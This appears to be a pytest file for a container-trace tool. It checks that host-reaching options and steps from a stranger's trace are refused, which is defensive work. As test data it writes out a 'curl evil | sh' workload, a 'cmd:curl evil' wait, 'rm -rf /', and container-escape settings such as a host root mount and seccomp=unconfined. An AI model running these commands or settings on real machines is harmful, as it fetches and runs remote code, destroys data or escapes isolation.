"""A trace from elsewhere may do nothing on this machine that a container may not, unless allowed."""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path

import pytest
from click.testing import CliRunner

from tracewhale.cli import main
from tracewhale.engines.trust import NO_TRUST, Trust, words_of
from tracewhale.errors import ExitCode, Untrusted
from tracewhale.running.options import RunOptions, parse_options
from tracewhale.running.run import Run
from tracewhale.tracing import tracefile
from tracewhale.tracing.events import Outcome, Step, Trace

IMAGE = "sha256:" + "0" * 64
DEFAULT = RunOptions()
NO_ENGINE = {"DOCKER_HOST": "unix:///nonexistent"}


def trace(options: RunOptions = DEFAULT, *steps: Step, target: str = "app", image: str = IMAGE) -> Trace:
    request = Run(target, image, {}, options).to_json()
    return Trace(target, image, "seccomp", request, frozenset(), outcome=Outcome(0), steps=steps)


def refused(found: Trace, trust: Trust = NO_TRUST, *, repeats: bool = True) -> list[str]:
    try:
        trust.check(found, repeats=repeats)
    except Untrusted as error:
        return error.what.splitlines()[1:]
    return []


@pytest.mark.parametrize(
    ("options", "words"),
    [
        ({"volume": ["/:/host"]}, "-v '/:/host'"),
        ({"volume": ["data:/data:ro"]}, "-v 'data:/data:ro'"),
        ({"mount": ["type=bind,src=/,dst=/h"]}, '--mount {"Source": "/", "Target": "/h", "Type": "bind"}'),
        ({"mount": ["type=volume,src=data,dst=/h"]}, "--mount "),
        ({"mount": ["type=volume,dst=/h,volume-opt=device=/,volume-opt=o=bind"]}, "--mount "),
        ({"network": "host"}, "--network 'host'"),
        ({"network": "container:db"}, "--network 'container:db'"),
        ({"publish": ["80:80"]}, "-p ':80:80/tcp'"),
        ({"cap_add": ["SYS_ADMIN"]}, "--cap-add 'SYS_ADMIN'"),
        ({"cap_add": ["all"]}, "--cap-add 'all'"),
        ({"security_opt": ["seccomp=unconfined"]}, "--security-opt 'seccomp=unconfined'"),
        ({"security_opt": ["systempaths=unconfined"]}, "--security-opt 'systempaths=unconfined'"),
        ({"security_opt": ["no-new-privileges=false"]}, "--security-opt 'no-new-privileges=false'"),
        ({"ulimit": ["nofile=99"]}, "--ulimit nofile=99:99"),
        ({"gpus": "all"}, "--gpus "),
    ],
)
def test_what_reaches_this_machine_is_refused_and_listed(options: dict[str, object], words: str) -> None:
    (told,) = refused(trace(parse_options(**options, environ={})))  # type: ignore[arg-type]
    assert told.startswith(words)


def test_what_a_container_may_do_anyway_needs_no_word() -> None:
    options = parse_options(
        env=["A=b"], volume=["/anonymous"], mount=["type=tmpfs,dst=/t", "type=volume,dst=/v"], tmpfs=["/x"],
        user="0", workdir="/w", entrypoint="sh", network="none", add_host=["a:1.2.3.4"], hostname="h",
        cap_add=["NET_RAW"], cap_drop=["ALL"], security_opt=["no-new-privileges"], read_only=True,
        shm_size="64m", init=True, tty=True, environ={},
    )  # fmt: skip
    assert refused(trace(options, Step("exec", "rm -rf /"), Step("for", "10"), Step("for", "soon"))) == []


def test_where_no_engine_makes_a_network_this_machines_is_asked_for() -> None:
    archive = trace(target="docker-archive:x.tar")
    assert refused(archive) == ["--network 'host'"]
    assert refused(archive, Trust(words=frozenset(words_of(RunOptions(network="host"))))) == []
    assert refused(trace(RunOptions(network="none"), target="oci:x")) == []
    assert refused(archive, repeats=False) == []
    with pytest.raises(Untrusted):
        NO_TRUST.check(trace(), repeats=True, image="oci:out")


def test_a_workload_is_refused_and_a_time_without_end() -> None:
    steps = Step("workload", "curl evil\n| sh"), Step("for", "1e8")
    assert refused(trace(DEFAULT, *steps)) == [r"--workload 'curl evil\n| sh'", "--for 1e8"]
    assert refused(replace(trace(), seconds=1e8)) == ["--for 1e+08"]


def test_a_wait_that_reaches_this_machine_is_refused() -> None:
    waits = [
        Step("wait", text, seconds=5)
        for text in ("cmd:curl evil", "log:(a*)*b", "8080", "/ready", "exec:true")
    ]
    assert refused(trace(DEFAULT, *waits)) == ["--wait-for 'cmd:curl evil'", "--wait-for 'log:(a*)*b'"]
    for seconds in (1e9, float("nan")):
        asked = refused(trace(DEFAULT, Step("crawl", "", seconds=seconds)))
        assert asked == [f"--wait-timeout {seconds:g}"]


def test_what_is_given_again_or_trusted_is_allowed() -> None:
    options = parse_options(volume=["/a:/a", "/b:/b"], environ={})
    step = Step("workload", "./test")
    given = Trust(words=frozenset(words_of(parse_options(volume=["/a:/a"], environ={}), [step])))
    assert refused(trace(options, step), given) == ["-v '/b:/b'"]
    assert refused(trace(options, step), Trust(everything=True)) == []


def test_files_that_are_no_images_and_copies_of_containers() -> None:
    host, rootfs = (trace(target=name, image=name) for name in ("host", "rootfs:/home/me"))
    for repeats in (True, False):
        assert len(refused(host, repeats=repeats)) == len(refused(rootfs, repeats=repeats)) == 1 + repeats
    container = trace(image="container:" + "0" * 64)
    assert refused(container, repeats=False) == []
    assert "with its mounts and privileges" in refused(container)[0]


def test_verify_runs_nothing_of_a_strangers_trace(tmp_path: Path) -> None:
    file, ran = tmp_path / "trace", tmp_path / "ran"
    tracefile.write(trace(DEFAULT, Step("workload", f"touch {ran}")), str(file))
    result = CliRunner().invoke(main, ["verify", "app", str(file)], env=NO_ENGINE)
    assert result.exit_code == ExitCode.UNTRUSTED
    assert f"--workload 'touch {ran}'" in result.output
    assert not ran.exists()
    for words in (["--trust-trace"], ["--workload", f"touch {ran}"]):
        result = CliRunner().invoke(main, ["verify", *words, "app", str(file)], env=NO_ENGINE)
        assert result.exit_code == ExitCode.ENGINE


def test_build_copies_no_files_of_this_machine_for_a_strangers_trace(tmp_path: Path) -> None:
    file = tmp_path / "trace"
    tracefile.write(trace(target="host", image="host"), str(file))
    output = ["-o", f"oci:{tmp_path}/out"]
    assert CliRunner().invoke(main, ["build", *output, str(file)]).exit_code == ExitCode.UNTRUSTED
    assert not (tmp_path / "out").exists()
